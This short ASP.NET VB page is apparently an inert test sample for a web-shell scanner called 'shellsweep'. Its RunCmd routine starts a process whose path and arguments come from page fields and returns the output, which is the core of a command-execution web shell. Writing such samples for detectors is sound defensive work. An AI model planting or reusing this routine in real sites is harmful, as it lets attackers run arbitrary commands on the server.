<%@ Page Language="VB" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<script runat="server">
Sub RunCmd(Src As Object, E As EventArgs)
  Dim p As New Process()
  Dim psi As New ProcessStartInfo(xpath.Text)
  psi.UseShellExecute = False : psi.RedirectStandardOutput = True
  psi.Arguments = xcmd.Text : p.StartInfo = psi : p.Start()
  result.Text = p.StandardOutput.ReadToEnd()
End Sub
</script>
